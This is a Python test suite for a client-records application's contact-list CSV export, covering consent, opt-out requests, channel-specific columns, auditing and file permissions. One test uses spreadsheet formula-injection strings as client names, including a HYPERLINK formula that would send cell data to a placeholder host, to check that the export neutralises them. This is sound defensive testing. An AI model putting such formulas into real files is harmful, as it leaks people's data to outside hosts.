"""Contact lists honour current consent and pending opt-out requests, and cannot carry formulas."""

from __future__ import annotations

import hashlib
import os
from collections import defaultdict
from datetime import date

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select, update

from desktop.db.models import AuditRecord, Client, ClientPhone, OptOutEvent, OptOutRequest, OptOutScope
from desktop.demo import populate
from desktop.domain.enums import (
    Channel,
    Interaction,
    Language,
    OptOutEventKind,
    OptOutVia,
    Purpose,
)
from desktop.domain.errors import PermissionDeniedError
from desktop.domain.phones import Phone, PhoneKind
from desktop.domain.records import ConsentCapture, ConsentChange, OptOutDraft
from tests.desktop.reports import expected
from tests.support.documents import new_client, read_csv

NEWS = Purpose.NEWSLETTERS


def grant(services, actor, client_id, *cells, granted=True):  # type: ignore[no-untyped-def]
    changes = tuple(ConsentChange(p, c, granted) for p, c in cells)
    services.consent.record(actor, client_id, ConsentCapture(changes, Interaction.PHONE, Language.FR))


def opt_out(services, actor, client_id, purposes, channels, via=OptOutVia.EMAIL):  # type: ignore[no-untyped-def]
    draft = OptOutDraft(
        received_via=via,
        received_on=date(2026, 11, 23),
        requester_name="Demande",
        purposes=frozenset(purposes),
        channels=frozenset(channels),
        client_id=client_id,
    )
    return services.optouts.log(actor, draft)


def listed(result) -> list[list[str]]:  # type: ignore[no-untyped-def]
    with open(result.path, "rb") as handle:
        return read_csv(handle.read())


def test_only_current_consent_without_a_pending_request_is_exported(services, team, tmp_path):
    r = team.receptionist

    def person(last: str, **fields: str):  # type: ignore[no-untyped-def]
        fields.setdefault("email", f"{last.lower()}@example.com")
        return new_client(services, r, last, "Test", **fields)

    kept = person("Gardé")
    withdrew = person("Retiré")
    pending_here = person("Attente")
    pending_elsewhere = person("Ailleurs")
    pending_other_channel = person("Texto")
    processed = person("Traité")
    sms_only = person("Sms")
    no_email = person("Sansadresse", email="")
    regranted = person("Redonné")
    for client in (
        kept,
        withdrew,
        pending_here,
        pending_elsewhere,
        pending_other_channel,
        processed,
        no_email,
        regranted,
    ):
        grant(services, r, client.id, (NEWS, Channel.EMAIL))
    grant(services, r, sms_only.id, (NEWS, Channel.SMS))
    grant(services, r, withdrew.id, (NEWS, Channel.EMAIL), granted=False)
    grant(services, r, regranted.id, (NEWS, Channel.EMAIL), granted=False)
    grant(services, r, regranted.id, (NEWS, Channel.EMAIL))
    opt_out(services, r, pending_here.id, {NEWS, Purpose.FEEDBACK}, {Channel.EMAIL, Channel.SMS})
    opt_out(services, r, pending_elsewhere.id, {Purpose.SURVEYS_CONTESTS_EVENTS}, set(Channel))
    opt_out(services, r, pending_other_channel.id, {NEWS}, {Channel.SMS})
    done = opt_out(services, r, processed.id, {NEWS}, {Channel.EMAIL})
    services.optouts.process(r, done.id)
    opt_out(services, r, None, {NEWS}, {Channel.EMAIL})  # not matched to any file yet

    result = services.exports.export_contacts(team.manager, NEWS, Channel.EMAIL, tmp_path / "news.csv")
    rows = listed(result)
    assert rows[0] == ["file_number", "last_name", "first_name", "language", "email"]
    assert sorted(row[1] for row in rows[1:]) == sorted(["Gardé", "Ailleurs", "Texto", "Redonné"])
    assert [row for row in rows if row[1] == "Gardé"] == [
        [kept.file_number, "Gardé", "Test", "fr", "gardé@example.com"]
    ]
    assert result.row_count == 4
    assert result.skipped_no_contact == 1
    assert result.unmatched_pending_requests == 1
    assert result.sha256 == hashlib.sha256((tmp_path / "news.csv").read_bytes()).hexdigest()

    # Once the pending request is processed the client has withdrawn: still not listed.
    request = services.optouts.for_client(r, pending_here.id)[0]
    services.optouts.process(r, request.id)
    again = services.exports.export_contacts(team.manager, NEWS, Channel.EMAIL, tmp_path / "again.csv")
    assert again.row_count == 4


def test_columns_suit_the_channel(services, team, tmp_path):
    client = new_client(
        services,
        team.receptionist,
        "Poste",
        "Paul",
        phones=(Phone("418 555-0123", PhoneKind.MOBILE),),
        street="12 rue des Érables",
        city="Québec",
        postal_code="G1S 2L6",
    )
    grant(
        services,
        team.receptionist,
        client.id,
        (Purpose.FEEDBACK, Channel.POST),
        (Purpose.FEEDBACK, Channel.SMS),
    )
    post = listed(
        services.exports.export_contacts(team.manager, Purpose.FEEDBACK, Channel.POST, tmp_path / "p.csv")
    )
    assert post == [
        ["file_number", "last_name", "first_name", "language", "street", "city", "province", "postal_code"],
        [client.file_number, "Poste", "Paul", "fr", "12 rue des Érables", "Québec", "QC", "G1S 2L6"],
    ]
    sms = listed(
        services.exports.export_contacts(team.manager, Purpose.FEEDBACK, Channel.SMS, tmp_path / "s.csv")
    )
    assert sms[1][-1] == "(418) 555-0123"


def test_a_phone_list_carries_the_extension_in_its_own_column(services, team, tmp_path):
    client = new_client(services, team.receptionist, "Poste", "Paula", phone="418 555-0123, poste 12")
    grant(
        services,
        team.receptionist,
        client.id,
        (Purpose.FEEDBACK, Channel.PHONE),
        (Purpose.FEEDBACK, Channel.SMS),
    )
    calls = listed(
        services.exports.export_contacts(team.manager, Purpose.FEEDBACK, Channel.PHONE, tmp_path / "c.csv")
    )
    assert calls == [
        ["file_number", "last_name", "first_name", "language", "phone", "phone_extension"],
        [client.file_number, "Poste", "Paula", "fr", "(418) 555-0123", "12"],
    ]
    # A number of no kind (as every number kept before kinds) is not texted until marked mobile.
    sms = listed(
        services.exports.export_contacts(team.manager, Purpose.FEEDBACK, Channel.SMS, tmp_path / "s.csv")
    )
    assert sms == [["file_number", "last_name", "first_name", "language", "phone"]]


def test_formula_cells_are_neutralised(services, team, tmp_path):
    names = ['=HYPERLINK("http://x.example/?"&A1,"x")', "+1", "-2", "@SUM(A1:A9)"]
    clients = [
        new_client(services, team.receptionist, name, "Prénom", email="a@example.com") for name in names
    ]
    tabbed = new_client(services, team.receptionist, "Tab", "Prénom", email="t@example.com")
    returned = new_client(services, team.receptionist, "Retour", "Prénom", email="r@example.com")
    with (
        services.db.session(write=True) as session,
        session.begin(),
    ):  # as an older import could have left them
        session.execute(update(Client).where(Client.id == tabbed.id).values(last_name="\tTab"))
        session.execute(update(Client).where(Client.id == returned.id).values(first_name="\rRetour=1+1"))
    for client in clients + [tabbed, returned]:
        grant(services, team.receptionist, client.id, (NEWS, Channel.EMAIL))

    result = services.exports.export_contacts(team.manager, NEWS, Channel.EMAIL, tmp_path / "x.csv")
    cells = {cell for row in listed(result)[1:] for cell in row[1:3]}
    for name in names + ["\tTab", "\rRetour=1+1"]:
        assert "'" + name in cells
        assert name not in cells
    assert "Prénom" in cells


def test_the_export_is_audited_without_client_data(services, team, tmp_path):
    client = new_client(services, team.receptionist, "Secret", "Sophie", email="sophie@example.com")
    grant(services, team.receptionist, client.id, (NEWS, Channel.EMAIL))
    result = services.exports.export_contacts(team.privacy_officer, NEWS, Channel.EMAIL, tmp_path / "n.csv")
    with services.db.session(write=False) as session:
        audit = session.scalars(select(AuditRecord).where(AuditRecord.action == "export.contacts")).one()
    assert (audit.username, audit.entity_type, audit.entity_id) == (
        "vie.privee",
        "export",
        "newsletters/email",
    )
    assert audit.detail == f"purpose=newsletters channel=email rows=1 sha256={result.sha256}"
    assert (tmp_path / "n.csv").stat().st_mode & 0o077 == 0
    assert not list(tmp_path.glob(".*.part"))


def test_receptionists_cannot_export_and_no_file_is_left(services, team, tmp_path):
    folder = tmp_path / "exports"
    folder.mkdir()
    with pytest.raises(PermissionDeniedError):
        services.exports.export_contacts(team.receptionist, NEWS, Channel.EMAIL, folder / "no.csv")
    assert list(folder.iterdir()) == []


def test_a_list_whose_export_cannot_be_recorded_is_never_put_in_place(services, team, tmp_path):
    client = new_client(services, team.receptionist, "Secret", "Sophie", email="sophie@example.com")
    grant(services, team.receptionist, client.id, (NEWS, Channel.EMAIL))
    folder = tmp_path / "exports"
    folder.mkdir()
    out = folder / "n.csv"

    def deactivated_meanwhile(rows_read: int) -> None:
        # The list is read; the account is deactivated before the export is recorded.
        services.staff.set_active(team.manager, team.privacy_officer.staff_id, False)

    with pytest.raises(PermissionDeniedError):
        services.exports.export_contacts(
            team.privacy_officer, NEWS, Channel.EMAIL, out, progress=deactivated_meanwhile
        )
    assert list(folder.iterdir()) == []  # neither the list nor its temporary file
    with services.db.session(write=False) as session:
        assert not session.scalars(select(AuditRecord).where(AuditRecord.action == "export.contacts")).all()


def expected_export(services, purpose: Purpose, channel: Channel) -> set[int]:  # type: ignore[no-untyped-def]
    """Straight from the rows: consent granted now, no pending matched request covering the cell,
    an address on file for the channel."""
    state = expected.consent_state(services)
    scopes = defaultdict(set)
    for request_id, p, c in expected.read(
        services, select(OptOutScope.request_id, OptOutScope.purpose, OptOutScope.channel)
    ):
        scopes[request_id].add((p, c))
    matched: dict[int, list] = defaultdict(list)
    processed: set[int] = set()
    for request_id, kind, client_id, at, event_id in expected.read(
        services,
        select(
            OptOutEvent.request_id, OptOutEvent.kind, OptOutEvent.client_id, OptOutEvent.at, OptOutEvent.id
        ),
    ):
        if kind == OptOutEventKind.MATCHED:
            matched[request_id].append((at, event_id, client_id))
        elif kind == OptOutEventKind.PROCESSED:
            processed.add(request_id)
    blocked = {
        max(matched[request_id])[2]
        for (request_id,) in expected.read(services, select(OptOutRequest.id))
        if request_id not in processed and matched[request_id] and (purpose, channel) in scopes[request_id]
    }
    mobiles = {
        client_id
        for (client_id,) in expected.read(
            services, select(ClientPhone.client_id).where(ClientPhone.kind == PhoneKind.MOBILE)
        )
    }
    contact = {}
    for client_id, email, phone, street, city, postal_code in expected.read(
        services,
        select(Client.id, Client.email, Client.phone, Client.street, Client.city, Client.postal_code),
    ):
        if channel == Channel.EMAIL:
            contact[client_id] = bool(email)
        elif channel == Channel.SMS:
            # Texts go only to a number marked mobile.
            contact[client_id] = client_id in mobiles
        elif channel == Channel.PHONE:
            contact[client_id] = bool(phone)
        else:
            contact[client_id] = bool(street and city and postal_code)
    return {
        client_id
        for (client_id, p, c), granted in state.items()
        if granted and (p, c) == (purpose, channel) and client_id not in blocked and contact[client_id]
    }


@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_random_withdrawals_and_requests_never_leak_into_an_export(services, team, tmp_path_factory, data):
    if not expected.read(services, select(Client.id).limit(1)):
        populate(services, 120, into_existing=True)  # once: the examples then keep changing the same database
    ids = [row[0] for row in expected.read(services, select(Client.id))]
    purpose = data.draw(st.sampled_from(list(Purpose)), label="purpose")
    channel = data.draw(st.sampled_from(list(Channel)), label="channel")
    excluded: set[int] = set()
    for client_id in data.draw(st.lists(st.sampled_from(ids), max_size=6, unique=True), label="withdraw"):
        grant(services, team.receptionist, client_id, (purpose, channel), granted=False)
        excluded.add(client_id)
    for client_id in data.draw(st.lists(st.sampled_from(ids), max_size=6, unique=True), label="request"):
        scope_channels = data.draw(st.sets(st.sampled_from(list(Channel)), min_size=1), label="channels")
        opt_out(services, team.receptionist, client_id, {purpose}, scope_channels)
        if channel in scope_channels:
            excluded.add(client_id)

    out = tmp_path_factory.mktemp("export") / "list.csv"
    result = services.exports.export_contacts(team.manager, purpose, channel, out)
    files = {row[0] for row in listed(result)[1:]}
    numbers = dict(expected.read(services, select(Client.id, Client.file_number)))
    assert files == {numbers[client_id] for client_id in expected_export(services, purpose, channel)}
    assert result.row_count == len(files)
    assert not files & {numbers[client_id] for client_id in excluded}


def test_an_export_over_files_open_to_others_is_owner_only(services, team, tmp_path):
    out = tmp_path / "n.csv"
    out.write_text("older list")
    out.chmod(0o644)
    # A partial file left by a crash of this very process id, open to others.
    stale = tmp_path / f".n.csv.{os.getpid()}.part"
    stale.write_text("half")
    stale.chmod(0o644)
    services.exports.export_contacts(team.privacy_officer, NEWS, Channel.EMAIL, out)
    assert out.stat().st_mode & 0o777 == 0o600
    assert not stale.exists()
